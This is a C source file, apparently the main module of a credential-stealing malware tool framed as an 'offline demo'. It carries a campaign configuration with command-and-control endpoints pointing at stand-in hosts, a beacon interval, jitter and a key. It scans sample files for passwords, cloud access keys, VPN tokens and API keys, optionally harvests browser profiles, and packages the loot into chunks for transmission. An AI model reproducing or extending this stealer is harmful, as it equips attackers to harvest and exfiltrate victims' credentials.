/* Stealer: configuration, the demo documents, main. */
#include <stdio.h>

#include "stealer.h"

static const char stealer_config[] =
    "campaign=orchid-7\nc2=203.0.113.9:80;drop.example.com:443\ninterval=3600\njitter=40\n"
    "key=4f72636869642d372d626574612d6b31\n";

static const struct {
    const char *name;
    const char *text;
} demo_docs[] = {
    {"deploy.env", "DB_HOST=db.internal\nDB_USER=svc\npassword=correct-horse-battery\n"
                   "AWS_ACCESS_KEY_ID=AKIAEXAMPLEEXAMPLE12\n"},
    {"notes.txt", "call bob\nvpn token: 7731-2202-9910\nremember the meeting\n"},
    {"config.json", "{\"api_key\": \"sk_demo_0123456789abcdef\", \"user\": \"ops\"}\n"},
};

int main(void)
{
    struct beta_cfg cfg;
    static struct loot l;
    static char rep[16384];
    static uint8_t wire[32768];
    uint8_t blob[512];

    size_t bl = beta_cfg_encode(blob, sizeof(blob), stealer_config);
    if (beta_cfg_load(&cfg, blob, bl) < 0)
        return 1;
    for (unsigned i = 0; i < sizeof(demo_docs) / sizeof(demo_docs[0]); i++)
        scan_document(&l, demo_docs[i].name, demo_docs[i].text);
#if TOOL_VERSION >= 2
    browser_profiles(&l);
#endif
    size_t n = build_report(&l, rep, sizeof(rep), &cfg);
    size_t wn;
    unsigned chunks = send_chunks(rep, n, &cfg, wire, sizeof(wire), &wn);
    const struct beta_c2 *c2 = beta_cfg_next_c2(&cfg, 0);
    printf("beta stealer v%d (offline demo): %u findings, %zu byte report, %u chunks, %zu bytes for "
           "%s:%u (not sent), window from %dh\n", TOOL_VERSION, l.n, n, chunks, wn, c2->host,
           c2->port, wait_for_window(&cfg));
    return 0;
}
